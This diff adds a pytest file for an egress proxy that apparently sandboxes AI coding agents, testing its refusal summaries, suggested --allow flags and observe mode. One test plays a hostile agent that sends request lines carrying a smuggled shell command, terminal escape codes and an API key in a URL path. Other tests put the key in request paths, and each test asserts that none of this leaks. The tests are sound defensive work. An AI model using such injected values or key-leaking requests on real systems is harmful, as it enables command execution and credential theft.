@@ -1,0 +1,219 @@
+"""The end of `keyhole run`: each place that was refused, and words to allow it that do. --allow and --observe."""
+
+import json
+import os
+import re
+import shlex
+
+import pytest
+from test_attach import running  # noqa: F401
+from test_run import KEY, Run
+
+CURL = "curl -s -o /dev/null --noproxy '' -w '%{http_code} ' "
+
+
+@pytest.fixture
+def run(sandbox):
+    return Run(sandbox)
+
+
+@pytest.fixture
+def places(run):
+    """A file by which other.test leads nowhere on the host itself: nothing of a test leaves it."""
+    config = {
+        "version": 1,
+        "audit": {"file": "audit.jsonl"},
+        "upstream": {"resolve": {name: "127.0.0.1:9" for name in ("other.test", "registry.npmjs.org")},
+                     "allow_addresses": ["127.0.0.1/32"]},
+        "tenants": {"one": {"rules": [
+            {"deny": "https://other.test/no/**"}, {"allow": "GET https://other.test/yes"}, {"allow": "http://10.1.2.3"}]}},
+    }  # fmt: skip
+    return run.sandbox.file(os.path.join(run.sandbox.folder("conf", 0o700), "keyhole.yaml"), json.dumps(config))
+
+
+def lines(done):
+    """Behind the first one, which counts."""
+    said = [line for line in done.stderr.splitlines() if line.startswith("keyhole: ")]
+    assert re.match(r"keyhole: \d+ requests? allowed", said[0]), said
+    return [line.removeprefix("keyhole: ") for line in said[1:]]
+
+
+def test_each_place_is_named_once_with_how_often_and_with_words_that_allow_it(run, places):
+    script = (f"for i in 1 2 3; do {CURL} https://registry.npmjs.org/left-pad; done; "
+              f"{CURL} -d x 'https://other.test/v1/x?q=hidden'; {CURL} https://other.test/users/42")  # fmt: skip
+    done = run("-c", places, "--", "sh", "-c", script, use=None, check=None)
+    assert done.stdout == "403 " * 5
+    assert lines(done) == [
+        "refused 3 times: GET https://registry.npmjs.org/left-pad", "  to allow it: --use npm",
+        "refused once: GET https://other.test/users/*", "  to allow it: --allow 'GET https://other.test/users/*'",
+        "refused once: POST https://other.test/v1/x", "  to allow it: --allow 'POST https://other.test/v1/x'",
+    ]
+    assert "hidden" not in done.stderr
+    words = [word for line in lines(done) if "to allow" in line for word in shlex.split(line.removeprefix("  to allow it: "))]
+    again = run("-c", places, "--audit", os.path.join(run.state, "again.jsonl"), *words, "--", "sh", "-c", script, use=None, check=None)
+    assert again.stdout == "502 " * 5 and lines(again) == [], again.stderr
+
+
+def test_a_preset_is_named_with_the_variable_of_its_key(run, places):
+    done = run("-c", places, "--", "sh", "-c", CURL + "-d x https://api.openai.com/v1/responses", use=None, check=None)
+    assert lines(done) == ["refused once: POST https://api.openai.com/v1/responses",
+                           "  to allow it: --use openai (its key is in OPENAI_API_KEY, CODEX_API_KEY)"]  # fmt: skip
+
+
+def test_known_telemetry_is_counted_apart_and_nobody_is_told_to_allow_it(run):
+    script = f"{CURL} -d x https://api.anthropic.com/api/event_logging/v2/batch; {CURL} -d x https://play.googleapis.com/log"
+    done = run("--", "sh", "-c", script, check=None)
+    assert done.stdout == "403 403 "
+    assert lines(done) == ["refused 2 times: known telemetry of Claude Code, Gemini CLI, which works without it"]
+
+
+def test_what_a_rule_denies_is_named_with_the_rule_and_the_address_guards_counts_too(run, places):
+    script = f"{CURL} https://other.test/no/x; {CURL} http://10.1.2.3/"
+    done = run("-c", places, "--", "sh", "-c", script, use=None, check=None)
+    assert done.stdout == "403 403 " and "0 requests allowed, 2 refused" in done.stderr
+    said = lines(done)
+    assert len(said) == 2
+    assert said[0].startswith("refused once: GET http://10.1.2.3/ (the address is none that sandboxes may reach")
+    assert re.fullmatch(r"refused once: GET https://other.test/no/x \(.*/keyhole\.yaml:1 denies it, and a rule above decides before\)", said[1])
+
+
+def test_an_agent_can_neither_forge_a_line_nor_what_is_pasted(run, places):
+    """It chooses method, host and path; a terminal and a shell get them."""
+    script = r"""
+import os, socket
+for line in [b"GET http://other.test/';touch${IFS}x;'/y HTTP/1.1", b"G'T http://other.test/x HTTP/1.1", b"FROB http://other.test/x HTTP/1.1",
+             b"GET http://other.test/**/z HTTP/1.1", b"GET http://other.test/%1b[2J HTTP/1.1", b"GET http://other.test/\x1b[2J HTTP/1.1",
+             b"GET http://other.test/" + os.environ.get("ANTHROPIC_API_KEY", "none").encode() + b"/k HTTP/1.1"]:
+    s = socket.create_connection(("127.0.0.1", 3128))
+    s.sendall(line + b"\r\nHost: other.test\r\n\r\n")
+    print(s.recv(4096).split()[1].decode())
+"""
+    done = run("-c", places, "--", "python3", "-c", script, check=None)
+    assert "\x1b" not in done.stderr and KEY not in done.stderr and "sk-ant" not in done.stderr
+    said = lines(done)
+    for line in said:
+        words = re.search(r"--allow '([^']*)'", line)
+        assert not words or re.fullmatch(r"[A-Z,]+ http://other\.test/[A-Za-z0-9./*-]*", words[1]), line
+    assert [line for line in said if "touch" in line] == []
+    assert "refused once: G'T http://other.test/x (no rule allows it, and none can name it as it is)" in said
+    assert all(line.startswith(("refused ", "  to allow it: --allow '")) for line in said), said
+    assert "refused 2 times: a request that names no host (malformed_request)" in said
+
+
+def test_what_is_neither_http_nor_tls_is_told_how_it_passes_unread(run, places):
+    script = """
+import socket, sys
+for place in [b"other.test:22", b"other.test:443"]:
+    s = socket.create_connection(("127.0.0.1", 3128))
+    s.sendall(b"CONNECT " + place + b" HTTP/1.1\\r\\nHost: " + place + b"\\r\\n\\r\\n")
+    print(s.recv(4096).split()[1].decode())
+    s.sendall(b"SSH-2.0-x\\r\\n")
+    s.recv(1)
+"""
+    done = run("-c", places, "--", "python3", "-c", script, use=None, check=None)
+    assert lines(done) == ["refused once: other.test:22", "  to allow it: --allow 'tcp://other.test:22'",
+                           "refused once: other.test:443 (protocol_unknown)"]  # fmt: skip
+    done = run("-c", places, "--allow", "tcp://other.test:22", "--", "python3", "-c", script, use=None, check=None)
+    assert "other.test:22" not in done.stderr, "it went out, to where nobody listens"
+
+
+def test_a_placeholder_in_a_path_is_not_shown(run):
+    done = run("--", "sh", "-c", f"{CURL} https://api.anthropic.com/$ANTHROPIC_API_KEY/x; {CURL} https://x.test/a-$ANTHROPIC_API_KEY", check=None)
+    assert done.stdout == "403 403 " and "sk-ant" not in done.stderr
+    assert "GET https://x.test/*" in done.stderr, done.stderr
+
+
+def test_there_is_an_end_to_the_places(run, places):
+    script = f"for i in $(seq 14); do {CURL} https://h$i.test/x; done; for i in $(seq 5); do {CURL} https://other.test/p/q$i; done"
+    said = lines(run("-c", places, "--", "sh", "-c", script, use=None, check=None))
+    assert len(said) == 21
+    assert said[:2] == ["refused 5 times: GET https://other.test/p/**", "  to allow it: --allow 'GET https://other.test/p/**'"]
+    assert re.fullmatch(r"refused: and 5 more \(keyhole audit show --denied .*/audit\.jsonl\)", said[20])
+
+
+def test_what_was_only_counted_in_the_journal_is_counted(run):
+    folder = run.sandbox.folder("few", 0o700)
+    config = {"version": 1, "audit": {"file": "audit.jsonl"}, "limits": {"refusals": 1, "refusals_burst": 1}, "tenants": {"one": {"rules": []}}}
+    path = run.sandbox.file(os.path.join(folder, "keyhole.yaml"), json.dumps(config))
+    done = run("-c", path, "--", "sh", "-c", f"for i in $(seq 20); do {CURL} https://h.test/x; done", use=None, check=None)
+    assert done.stdout == "403 " * 20 and "0 requests allowed, 20 refused" in done.stderr
+    assert re.search(r"refused: \d+ more were only counted", done.stderr), done.stderr
+
+
+def test_quiet_prints_nothing(run, places):
+    done = run("-q", "-c", places, "--observe", "--", "sh", "-c", f"{CURL} http://other.test/x", use=None, check=None)
+    assert done.stderr == ""
+
+
+# --- --allow --------------------------------------------------------------------------------------
+
+
+def test_allow_opens_what_it_says_without_a_file_and_no_more(run):
+    script = f"{CURL} http://127.0.0.1:9/x; {CURL} -d x http://127.0.0.1:9/x; {CURL} http://127.0.0.1:9/y/z"
+    done = run("--allow", "GET http://127.0.0.1:9/*", "--", "sh", "-c", script, use=None, check=None)
+    # The guard has a say behind the rule.
+    assert done.stdout == "403 403 403 "
+    said = lines(done)
+    assert any("GET http://127.0.0.1:9/x (the address" in line for line in said), said
+    assert "  to allow it: --allow 'POST http://127.0.0.1:9/x'" in said, said
+    assert "refused once: GET http://127.0.0.1:9/y/z" in said, said
+
+
+def test_allow_neither_overrides_a_denial_nor_takes_a_credential_away(run, places):
+    script = f"{CURL} https://other.test/no/x; {CURL} https://other.test/yes; {CURL} https://other.test/more"
+    done = run("-c", places, "--allow", "https://other.test/**", "--", "sh", "-c", script, use=None, check=None)
+    assert done.stdout == "403 502 502 "
+    done = run("--use", "anthropic", "--allow", "POST https://api.anthropic.com/v1/messages", "--", "true", use=None, check=0)
+    assert re.search(r'^--allow: warning: rule "POST https://api.anthropic.com/v1/messages" never decides', done.stderr, re.M), done.stderr
+
+
+@pytest.mark.parametrize("text, says, at", [
+    ("api.example.com/x", 'a scheme is missing in front of "api.example.com/x" (write https://api.example.com/x)', 0),
+    ("GET api.example.com", "a scheme is missing", 4),
+    ("GTE https://api.example.com", '"GTE" is no method of HTTP (did you mean "GET"?)', 0),
+    ("GET https://*/x", '"*" names no host', 12),
+    ("GET https://a.test/x?y=1", "a rule ends with the path", 20),
+])  # fmt: skip
+def test_a_text_of_allow_that_is_no_rule_is_pointed_at(run, text, says, at):
+    done = run("--allow", text, "--", "true", use=None, check=125)
+    first, shown, mark = done.stderr.splitlines()
+    assert first.startswith("keyhole: --allow: ") and says in first
+    assert shown == "keyhole:   " + text and mark == "keyhole:   " + " " * at + "^"
+    assert run.folders() == []
+
+
+@pytest.mark.parametrize("text", ["https://*.co.uk", "https://*.github.io/x"])
+def test_a_wildcard_over_names_of_strangers_is_refused(run, text):
+    done = run("--allow", text, "--", "true", use=None, check=125)
+    assert done.stderr.startswith("--allow: error: host ") and len(done.stderr.splitlines()) == 1
+
+
+# --- --observe ------------------------------------------------------------------------------------
+
+
+def test_observe_enforces_no_rule_and_says_so_with_what_would_be_refused(run, places):
+    script = f"{CURL} https://other.test/yes; {CURL} https://other.test/new; {CURL} https://other.test/no/x; {CURL} http://10.1.2.4/"
+    done = run("-c", places, "--observe", "--", "sh", "-c", script, use=None, check=None)
+    assert done.stdout == "502 502 502 403 "
+    assert "3 requests allowed (3 failed), 1 refused" in done.stderr
+    said = lines(done)
+    assert said[0] == "NO RULE WAS ENFORCED (observe): 3 of these requests would have been refused"
+    at = said.index("would be refused once: GET https://other.test/new")
+    assert said[at + 1] == "  to allow it: --allow 'GET https://other.test/new'"
+    assert any(line.startswith("would be refused once: GET https://other.test/no/x (") for line in said)
+    assert any(line.startswith("refused once: GET http://10.1.2.4/ (the address is none") for line in said)
+
+
+def test_observe_needs_no_file_and_gives_no_key_to_what_no_rule_allows(run):
+    done = run("--observe", "--", "sh", "-c", f"{CURL} http://10.1.2.4/; env", use=None, check=0)
+    assert "NO RULE WAS ENFORCED" in done.stderr and "ANTHROPIC_API_KEY" not in done.stdout
+
+
+# --- with a daemon --------------------------------------------------------------------------------
+
+
+def test_a_sandbox_of_a_daemon_sees_its_own_places_alone(running):  # noqa: F811
+    one = running()
+    one("--", "sh", "-c", f"{CURL} https://mine.test/x", check=None)
+    done = one("--", "sh", "-c", f"{CURL} https://yours.test/x", check=None)
+    assert lines(done) == ["refused once: GET https://yours.test/x", "  to allow it: --allow 'GET https://yours.test/x'"]
